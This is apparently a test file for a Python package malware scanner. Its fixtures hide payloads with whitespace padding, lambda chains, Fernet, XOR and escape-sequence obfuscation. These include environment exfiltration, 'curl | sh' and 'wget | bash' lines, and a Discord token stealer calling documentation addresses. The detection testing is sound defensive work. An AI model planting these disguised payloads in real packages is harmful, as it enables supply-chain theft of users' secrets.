"""Disguises real malware uses to slip past scanners, each written in fresh, differently-shaped
fixtures (``../shared/design/detection-notes.md``): a rule fitted to one sample's spelling fails
here. Every fixture is inert text pointing only at documentation addresses."""

from __future__ import annotations

import base64
import marshal
import zlib

import pytest
from cryptography.fernet import Fernet

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist, make_wheel

# What the disguised code does once decoded: send the host name and the environment out.
STAGE = (
    "import os, json, urllib.request\n"
    "urllib.request.urlopen('http://198.51.100.7/c', data=json.dumps(dict(os.environ)).encode())\n"
)
B64 = base64.b64encode(STAGE.encode()).decode()
ZB64 = base64.b64encode(zlib.compress(STAGE.encode())).decode()
_KEY = Fernet.generate_key()
FKEY = _KEY.decode()
FTOKEN = Fernet(_KEY).encrypt(STAGE.encode()).decode()
MARSHALLED = base64.b64encode(zlib.compress(marshal.dumps(compile(STAGE, "<s>", "exec")))).decode()


def _shift(text: str, k: int) -> str:
    return "".join(chr(ord(c) + k) for c in text)


def _xor(text: str, key: bytes) -> list[int]:
    return [b ^ key[i % len(key)] for i, b in enumerate(text.encode())]


def _hex_escapes(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def _lambda_chain(depth: int, core: str) -> str:
    """``(lambda a0: (lambda a1: ... core ...)(a0))(0)``: the shape onelinerizer-style packers emit."""
    expr = core
    for i in range(depth - 1, -1, -1):
        expr = f"(lambda _l{i}: {expr})({i})"
    return expr


DISGUISES: dict[str, dict[str, str]] = {
    # Code pushed off-screen by whitespace, after a harmless statement.
    "whitespace_semicolon": {
        "pkg/__init__.py": "VERSION = '1.0'"
        + " " * 400
        + f";import base64;exec(base64.b64decode('{B64}'))\n",
    },
    "whitespace_tabs_in_setup": {
        "setup.py": "from setuptools import setup\n"
        + "\t" * 220
        + "import os;os.popen('wget -qO- http://203.0.113.9/i.sh | bash')\n"
        + "setup(name='pkg', version='1.0')\n",
    },
    "whitespace_own_line": {
        "pkg/util.py": "def add(a, b):\n    return a + b\n"
        + " " * 600
        + "__import__('os').system('curl -fsSL http://192.0.2.44/p | sh')\n",
        "pkg/__init__.py": "from .util import add\n",
    },
    # Lambda chains dozens deep around a decode -> exec.
    "lambda_chain_exec": {
        "pkg/__init__.py": _lambda_chain(24, f"exec(__import__('base64').b64decode('{B64}'))")
        + "\n",
    },
    "lambda_chain_assigned": {
        "pkg/__init__.py": "".join(f"_f{i} = lambda s: _f{i + 1}(s)\n" for i in range(25))
        + "_f25 = lambda s: exec(__import__('zlib').decompress(__import__('base64').b64decode(s)))\n"
        + f"_f0('{ZB64}')\n",
    },
    "lambda_chain_globals": {
        "setup.py": "from setuptools import setup\n"
        + _lambda_chain(
            30,
            f"(lambda g: g['__builtins__'].__dict__['exec'] if hasattr(g['__builtins__'], '__dict__') else g['__builtins__']['exec'])(globals())(__import__('base64').b64decode('{B64}'))",
        )
        + "\nsetup(name='pkg', version='1.0')\n",
    },
    # Fernet with the key inline, in three spellings.
    "fernet_direct": {
        "pkg/__init__.py": "from cryptography.fernet import Fernet\n"
        f"exec(Fernet(b'{FKEY}').decrypt(b'{FTOKEN}'))\n",
    },
    "fernet_key_variable": {
        "setup.py": "from setuptools import setup\nfrom cryptography import fernet\n"
        f"k = '{FKEY}'\ntok = '{FTOKEN}'\nf = fernet.Fernet(k)\ncode = f.decrypt(tok.encode()).decode()\n"
        "exec(code)\nsetup(name='pkg', version='1.0')\n",
    },
    "fernet_alias": {
        "pkg/core.py": "from cryptography.fernet import Fernet as _F\nimport builtins\n"
        f"_run = getattr(builtins, 'ex' + 'ec')\n_run(_F('{FKEY}'.encode()).decrypt('{FTOKEN}'.encode()))\n",
        "pkg/__init__.py": "from . import core\n",
    },
    # Encoding layers.
    "zlib_base64": {
        "pkg/__init__.py": f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{ZB64}')).decode())\n",
    },
    "marshal_layers": {
        "pkg/__init__.py": "import marshal, zlib, base64\n"
        f"exec(marshal.loads(zlib.decompress(base64.b64decode('{MARSHALLED}'))))\n",
    },
    "reversed_base64_variable": {
        "setup.py": "import base64\nfrom setuptools import setup\n"
        f"blob = '{B64[::-1]}'\npayload = base64.b64decode(blob[::-1])\n"
        "eval(compile(payload, '<string>', 'exec'))\nsetup(name='pkg', version='1.0')\n",
    },
    # exec of decoded data through aliases.
    "alias_assigned": {
        "pkg/__init__.py": f"import base64\n_x = exec\n_d = base64.b64decode\n_x(_d('{B64}'))\n",
    },
    "alias_getattr_builtins": {
        "pkg/__init__.py": "import builtins, base64\n"
        f"getattr(builtins, 'ex' + 'ec')(base64.b64decode('{B64}').decode())\n",
    },
    "alias_vars_builtins": {
        "pkg/__init__.py": "import codecs\n"
        f"vars(__builtins__)['exec'](codecs.decode('{B64}'.encode(), 'base64'))\n",
    },
    "alias_globals_builtins": {
        "pkg/__init__.py": "import base64\n"
        f"globals()['__builtins__'].exec(base64.b64decode('{B64}'))\n",
    },
    # Code handed to a child interpreter as ``python -c`` text.
    "python_c_list_in_function": {
        "pkg/run.py": "import subprocess, sys\ndef refresh():\n"
        "    subprocess.Popen([sys.executable, '-c', \"import urllib.request as r; "
        "exec(r.urlopen('https://cdn.example.invalid/p').read())\"])\n",
        "pkg/__init__.py": "",
    },
    "python_c_shell_string_in_setup": {
        "setup.py": "import os\nfrom setuptools import setup\n"
        f"os.system('python3 -c \"import base64; exec(base64.b64decode(\\\\'{B64}\\\\'))\"')\n"
        "setup(name='pkg', version='1.0')\n",
    },
    # Keyed ciphers whose key sits in another variable.
    "shift_cipher_key_variable": {
        "pkg/__init__.py": f"OFFSET = 3\nblob = {_shift(STAGE, 3)!r}\n"
        "src = ''.join(chr(ord(c) - OFFSET) for c in blob)\nexec(src)\n",
    },
    "xor_cipher_key_variable": {
        "pkg/__init__.py": f"KEY = b'k3y'\nDATA = {_xor(STAGE, b'k3y')!r}\n"
        "plain = bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(DATA))\nexec(plain.decode())\n",
    },
    "xor_cipher_function": {
        "setup.py": "from setuptools import setup\n"
        "def unmask(data, key):\n    return ''.join(chr(c ^ key) for c in data)\n"
        f"secret = 42\nexec(unmask({[b ^ 42 for b in STAGE.encode()]!r}, secret))\n"
        "setup(name='pkg', version='1.0')\n",
    },
    "home_made_decoder_function": {
        "pkg/__init__.py": "def _d(s, k):\n    out = ''\n    for i, ch in enumerate(s):\n"
        "        out += chr(ord(ch) ^ ord(k[i % len(k)]))\n    return out\n"
        f"_K = 'pw'\n_B = {''.join(chr(ord(c) ^ ord('pw'[i % 2])) for i, c in enumerate(STAGE))!r}\n"
        "exec(_d(_B, _K))\n",
    },
    # Stealers written in hex escapes.
    "hex_escaped_stealer": {
        "pkg/__init__.py": "import os, requests\n"
        f"_p = os.path.join(os.getenv('\\x41\\x50\\x50\\x44\\x41\\x54\\x41'), '{_hex_escapes('discord/Local Storage/leveldb')}')\n"
        f"_u = '{_hex_escapes('http://203.0.113.50/collect')}'\n"
        "for f in os.listdir(_p):\n    requests.post(_u, files={'f': open(os.path.join(_p, f), 'rb')})\n",
    },
    "hex_escaped_exec": {
        "pkg/__init__.py": f"exec('{_hex_escapes(STAGE)}')\n",
    },
    "octal_escaped_names": {
        "setup.py": "from setuptools import setup\n"
        "_m = __import__('\\165\\162\\154\\154\\151\\142\\56\\162\\145\\161\\165\\145\\163\\164', fromlist=['x'])\n"
        "_os = __import__('\\157\\163')\n"
        "_m.urlopen('\\150\\164\\164\\160\\72\\57\\57\\61\\71\\62\\56\\60\\56\\62\\56\\61\\60', data=str(_os.environ).encode())\n"
        "setup(name='pkg', version='1.0')\n",
    },
}

# The threat each disguise must raise (any one of them): decoding then running is
# chain.decode_exec whatever the layers; a disguise that hides no decoding is named as one.
_DECODE_EXEC = ("chain.decode_exec",)
EXPECTED: dict[str, tuple[str, ...]] = {
    name: _DECODE_EXEC
    for name in DISGUISES
    if name.startswith(("alias_", "fernet_", "lambda_chain_", "shift_", "xor_", "home_made"))
    or name in ("zlib_base64", "marshal_layers", "reversed_base64_variable")
}
EXPECTED |= {
    "python_c_list_in_function": ("chain.remote_exec",),
    "python_c_shell_string_in_setup": _DECODE_EXEC,
    "lambda_chain_globals": ("disguise.obfuscation", "chain.decode_exec"),
    "whitespace_semicolon": ("disguise.obfuscation",),
    "whitespace_tabs_in_setup": ("disguise.obfuscation",),
    "whitespace_own_line": ("disguise.obfuscation",),
    "hex_escaped_stealer": ("disguise.obfuscation",),
    "octal_escaped_names": ("disguise.obfuscation",),
    "hex_escaped_exec": ("disguise.obfuscation", "chain.exfiltration"),
}


def scan(files: dict[str, str], tmp_path):
    data = {k: v.encode() for k, v in files.items()}
    if "setup.py" in data:
        return scan_artifact(open_artifact(make_sdist(tmp_path, name="pkg", files=data)))
    return scan_artifact(open_artifact(make_wheel(tmp_path, name="pkg", files=data)))


@pytest.mark.parametrize("name", sorted(DISGUISES))
def test_disguised_payload_is_high_with_its_threat(name, tmp_path):
    result = scan(DISGUISES[name], tmp_path)
    strong = {t.id for t in result.threats if t.severity in ("high", "critical")}
    assert result.risk.level in ("high", "critical"), (name, [t.id for t in result.threats])
    assert strong & set(EXPECTED[name]), (name, sorted(strong))


def test_every_disguise_names_the_threat_it_must_raise():
    assert set(EXPECTED) == set(DISGUISES)


def test_code_generated_from_a_readable_template_at_import_is_not_a_decoder(tmp_path):
    """Record and struct libraries build methods from a source template at import; the template
    reads as Python, so the function filling it in is no cipher."""
    code = (
        "TEMPLATE = '''def __init__(self, {args}):\n    for name in ({args},):\n"
        "        pass\n    self._fields = ({args},)\n'''\n"
        "def _fill(template, fields):\n    return template.format(args=', '.join(fields))\n"
        "ns = {}\nexec(_fill(TEMPLATE, ['x', 'y']), ns)\n"
    )
    result = scan({"pkg/__init__.py": code}, tmp_path)
    assert "chain.decode_exec" not in {t.id for t in result.threats}
    assert result.risk.level not in ("high", "critical")
